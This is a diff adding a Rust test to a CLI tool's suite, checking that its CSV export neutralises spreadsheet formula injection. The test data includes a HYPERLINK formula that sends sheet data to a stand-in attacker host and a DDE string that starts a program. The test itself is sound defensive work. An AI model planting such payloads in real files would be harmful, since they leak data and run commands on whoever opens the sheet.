@@ -403,6 +403,66 @@ fn csv_parses_with_a_standard_reader() {
     assert_eq!(&row[6], "", "a run's fields all have columns");
 }
 
+#[test]
+fn csv_opened_in_a_spreadsheet_runs_no_formula_a_caller_wrote() {
+    // A tool name, a result and a foreign entry's field, each a formula a
+    // spreadsheet would run: one fetches a URL with the sheet's data, one
+    // starts a program.
+    let cli = Cli::new();
+    let exfiltrate = r#"=HYPERLINK("https://evil.example/?"&A1,"open")"#;
+    cli.run_at(
+        NOW,
+        &[
+            "tool",
+            "--user",
+            "alice",
+            "--tool",
+            "=cmd|'calc'!A0",
+            "--status",
+            "ok",
+            "--result",
+            exfiltrate,
+        ],
+    )
+    .success();
+    cli.run_at(
+        NOW,
+        &[
+            "tool", "--user", "alice", "--tool", "@SUM(1)", "--status", "denied", "--result",
+            "+1-2",
+        ],
+    )
+    .success();
+    let csv_text = cli
+        .run_at(NOW, &["recent", "--user", "alice", "--format", "csv"])
+        .success()
+        .stdout;
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2, "{csv_text}");
+    assert_eq!((&rows[0][2], &rows[0][5]), ("'@SUM(1)", "'+1-2"));
+    assert_eq!(&rows[1][2], "'=cmd|'calc'!A0");
+    assert_eq!(rows[1][5], format!("'{exfiltrate}"));
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "{cell:?} in {csv_text}"
+            );
+        }
+    }
+    // The number columns and JSON are as they were; json keeps the text exactly.
+    assert_eq!(
+        (&rows[1][4], &rows[1][6]),
+        (exfiltrate.chars().count().to_string().as_str(), "{}")
+    );
+    let json = cli
+        .run_at(NOW, &["recent", "--user", "alice"])
+        .success()
+        .json();
+    assert_eq!(json[1]["result_snippet"], exfiltrate);
+}
+
 /// What a terminal acts on: C0 controls (ESC, BEL, BS, CR), DEL, C1 controls
 /// (CSI), and the direction overrides and isolates that reverse a line.
 const TERMINAL_ATTACKS: [(&str, &str); 9] = [
